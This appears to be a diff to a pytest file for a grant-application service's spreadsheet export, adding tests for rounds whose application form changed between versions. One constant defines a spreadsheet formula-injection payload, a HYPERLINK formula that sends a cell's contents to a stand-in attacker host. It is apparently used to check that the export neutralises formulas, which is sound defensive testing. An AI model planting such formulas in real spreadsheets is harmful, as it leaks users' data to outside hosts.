@@ -1,4 +1,5 @@
-"""The round's spreadsheet: one row per submitted application, every question a column, no formulas."""
+"""The round's spreadsheet: one row per submitted application, every question of the forms they answer
+a column, no formulas."""
 
 from __future__ import annotations
 
@@ -6,16 +7,32 @@ from datetime import UTC, datetime
 from decimal import Decimal
 from io import BytesIO
 
+import pytest
 from openpyxl import load_workbook
 
-from grants.application_form.sections import export_columns
-from grants.exports.applications import FIXED_HEADINGS, XLSX_MIMETYPE
+from grants.exports.applications import FIXED_HEADINGS, XLSX_MIMETYPE, round_workbook
+from grants.form_definitions import Kind, load, standard
+from grants.interfaces.applications.questions import export_columns
+from grants.interfaces.round_forms.versions import version_in_force
 from grants.models.applications import ApplicationStatus
 from grants.models.organisations import LegalType
+from tests import custom_application_form as custom
 from tests.blueprints.screening.conftest import PROJECT_ANSWERS
 from tests.factories import FundingRoundFactory, OrganisationFactory
 
 INJECTION = '=HYPERLINK("http://evil.example/?"&A1,"Click for details")'
+STANDARD_HEADINGS = [heading for _id, heading in export_columns([standard(Kind.APPLICATION)])]
+
+
+@pytest.fixture
+def make_application(make_application, funding_round):
+    """As the service starts them: each answering its round's application form in force."""
+
+    def _make(**values):
+        values.setdefault("form", version_in_force(values.get("funding_round", funding_round), Kind.APPLICATION))
+        return make_application(**values)
+
+    return _make
 
 
 def _download(client, funding_round):
@@ -47,9 +64,22 @@ def test_the_response_is_an_xlsx_attachment_never_sniffed_or_cached(officer, fun
 def test_a_round_with_no_applications_still_has_its_headings(officer, funding_round):
     rows = _rows(_download(officer, funding_round))
     assert len(rows) == 1
-    headings = [cell.value for cell in rows[0]]
-    assert headings == [*FIXED_HEADINGS, *(heading for _key, _name, heading in export_columns())]
-    assert "Project summary and activities: Summarise your project" in headings
+    assert [cell.value for cell in rows[0]][:len(FIXED_HEADINGS)] == list(FIXED_HEADINGS)
+
+
+def _headings(workbook) -> list[str]:
+    return [cell.value for cell in next(load_workbook(workbook).active.iter_rows())]
+
+
+def test_with_no_applications_the_rounds_form_gives_the_question_columns(db, funding_round):
+    assert _headings(round_workbook([], funding_round)) == [*FIXED_HEADINGS, *STANDARD_HEADINGS]
+    assert "Project summary and activities: Summarise your project" in STANDARD_HEADINGS
+    custom.store(funding_round)
+    headings = _headings(round_workbook([], funding_round))
+    assert headings[len(FIXED_HEADINGS):len(FIXED_HEADINGS) + 2] == [
+        "About the work: What is the project called?", "About the work: Describe the project in a paragraph"]
+    assert not set(STANDARD_HEADINGS) & set(headings)
+    assert _headings(round_workbook([])) == list(FIXED_HEADINGS)
 
 
 def test_one_row_per_submitted_application_with_typed_values(officer, make_application, funding_round):
@@ -134,7 +164,7 @@ def test_a_complete_application_fills_every_question_column(officer, make_applic
     make_application(answers=answers)
     [row] = _by_heading(_rows(_download(officer, funding_round)))
     empty = {heading for heading, cell in row.items() if cell.value in (None, "")}
-    assert empty == {"Company number", "Safeguarding and policies: Anything you need to explain (optional)"}
+    assert empty == {"Company number", "Safeguarding and policies: Anything you need to explain"}
     assert row["Budget: Budget lines"].value.count("\n") == 1
 
 
@@ -150,3 +180,36 @@ def test_the_export_takes_the_same_number_of_queries_for_2_or_20_applications(
     with count_queries() as many:
         assert len(_rows(_download(officer, funding_round))) == 21
     assert len(many) == len(few)
+
+
+def test_each_application_fills_the_columns_of_the_form_it_answers(officer, make_application, funding_round):
+    """A round whose form changed after some applied: a column for every question of either version,
+    the standard one's first; each row fills its own form's, and the other's are blank."""
+    before = make_application(answers={"project": PROJECT_ANSWERS})
+    custom.store(funding_round)
+    after = make_application(answers=custom.ANSWERS)
+    assert before.form.version == 1 and after.form.version == 2
+    rows = _rows(_download(officer, funding_round))
+    headings = [cell.value for cell in rows[0]]
+    custom_headings = [heading for _id, heading in export_columns([load(custom.DOCUMENT)])]
+    assert headings == [*FIXED_HEADINGS, *STANDARD_HEADINGS, *custom_headings]
+    first, second = _by_heading(rows)
+    assert first["Project summary and activities: Project name"].value == "Harbour Recovery Café"
+    assert second["Project summary and activities: Project name"].value in (None, "")
+    assert first["About the work: What is the project called?"].value in (None, "")
+    assert second["About the work: What is the project called?"].value == "Moorland Mentors"
+    assert second["Timing: Last day of the work"].value == "29 February 2028"
+    assert second["Focus: Who benefits?"].value == "Armed forces veterans"
+    assert second["Money: What the money pays for"].value == "Staff – Mentor coordinator – £3,000.00"
+    # Hidden by the answer before it: blank, though something was typed there before.
+    assert second["About the work: Do you work with a partner?"].value == "No"
+    assert second["About the work: Who is your partner?"].value in (None, "")
+
+
+def test_an_application_without_a_version_answers_the_rounds_current_form(officer, make_application,
+                                                                            funding_round):
+    custom.store(funding_round)
+    make_application(answers=custom.ANSWERS, form=None)
+    [row] = _by_heading(_rows(_download(officer, funding_round)))
+    assert row["About the work: What is the project called?"].value == "Moorland Mentors"
+    assert not set(STANDARD_HEADINGS) & set(row)
